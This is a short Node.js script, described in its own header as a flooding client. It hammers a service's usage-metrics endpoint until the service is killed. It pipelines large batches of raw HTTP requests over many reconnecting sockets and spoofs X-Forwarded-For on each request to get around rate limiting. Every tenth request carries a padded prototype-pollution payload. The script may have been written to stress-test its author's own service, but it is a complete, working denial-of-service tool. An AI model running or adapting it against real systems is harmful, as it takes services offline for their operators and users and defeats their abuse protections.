/**
 * Floods a service with usages of distinct visitors until it is killed: `node flooding-client.js URL CONNECTIONS`. Half of
 * the connections have as many requests running as the service allows, the others send requests without waiting for
 * responses, and connect again when they are disconnected. Every tenth request is hostile. `X-Forwarded-For` makes each
 * request come from another address, so that no rate limit applies.
 */
import { connect } from 'node:net';
import { setImmediate, setTimeout } from 'node:timers';

const PIPELINED_REQUESTS = 100;
/** The service allows this many running requests of a connection. */
const RUNNING_REQUESTS = 16;
const RECONNECT_MILLISECONDS = 200;
const { hostname, port } = new URL(process.argv[2]);
const connections = Number(process.argv[3]);
const hostile = JSON.stringify({ x: { constructor: { prototype: {} }, pad: 'x'.repeat(20_000) } });
let requests = 0;

for (let count = 0; count < connections; count += 2) {
  flood();
  saturate();
}

function saturate() {
  const socket = connect(Number(port), hostname);
  const send = (count) => socket.write(Array.from({ length: count }, createRequest).join(''));
  socket.on('error', () => undefined).on('connect', () => send(RUNNING_REQUESTS));
  socket.on('data', (chunk) => send(chunk.toString('latin1').split('HTTP/1.1 ').length - 1));
  socket.on('close', saturate);
}

function flood() {
  const socket = connect(Number(port), hostname);
  const send = () => {
    if (socket.destroyed) return;
    const isDrained = socket.write(Array.from({ length: PIPELINED_REQUESTS }, createRequest).join(''));
    if (isDrained) setImmediate(send);
    else socket.once('drain', send);
  };
  socket
    .on('error', () => undefined)
    .on('connect', send)
    .on('close', () => setTimeout(flood, RECONNECT_MILLISECONDS));
  socket.resume();
}

function createRequest() {
  requests += 1;
  const usage = { item_guid: 'abc12', action_labels: ['view'], client_session_id: `visitor ${requests}` };
  const body = requests % 10 === 0 ? hostile : JSON.stringify(usage);
  return [
    'POST /_/metrics/events/counted_usage/ HTTP/1.1',
    'Host: localhost',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
    `X-Forwarded-For: 10.${requests >> 16}.${(requests >> 8) & 255}.${requests & 255}`,
    'Content-Type: application/json',
    `Content-Length: ${body.length}\r\n\r\n${body}`,
  ].join('\r\n');
}
